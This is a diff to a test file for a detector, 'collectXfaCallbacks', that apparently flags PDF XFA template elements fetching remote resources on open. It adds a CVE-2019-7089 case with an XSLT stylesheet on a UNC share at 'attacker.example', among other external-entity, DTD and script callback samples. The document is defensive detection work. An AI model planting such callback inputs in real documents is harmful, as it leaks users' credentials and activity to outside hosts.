@@ -17,6 +17,7 @@ describe("collectXfaCallbacks", () => {
     ["an external parameter entity with a public id", `<!DOCTYPE x [ <!ENTITY % p PUBLIC "-//X//EN" "http://example.com/x.dtd"> %p; ]>`, { element: "<!ENTITY % p PUBLIC> (external entity)", target: "http://example.com/x.dtd" }],
     ["an external DTD", `<!DOCTYPE xdp SYSTEM "\\\\host\\share\\x.dtd">`, { element: "<!DOCTYPE xdp SYSTEM> (external DTD)", kind: "unc", onOpen: true }],
     ["a remote image", `<draw><value><image href="https://cdn.example/t.png" contentType="image/png"/></value></draw>`, { element: "<image href>", onOpen: true }],
+    ["an XSLT stylesheet on a share (CVE-2019-7089)", `<?xml-stylesheet type="text/xsl" href="\\\\attacker.example\\share\\x.xsl"?>`, { element: "<?xml-stylesheet href?>", kind: "unc", onOpen: true }],
     ["a remote exData", `<exData href="http://example.com/x.html" contentType="text/html"/>`, { element: "<exData href>", onOpen: true }],
   ])("%s", (_name, body, expected) => {
     const found = collectXfaCallbacks(template(body), defaultBudget());
@@ -40,6 +41,7 @@ describe("collectXfaCallbacks", () => {
   it("reports nothing for local hrefs, internal entities, rich-text links, script objects and JavaScript", () => {
     const body = [
       `<!DOCTYPE x [ <!ENTITY nbsp "&#160;"> ]>`,
+      `<?xml-stylesheet type="text/xsl" href="form.xsl"?>`,
       `<image href=".\\Resources\\logo.png"/>`,
       `<exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><p><a href="https://www.example.gov/help">help</a></p></body></exData>`,
       `<variables><script name="lib">function send() { Post("https://example.com/x", 1) }</script></variables>`,
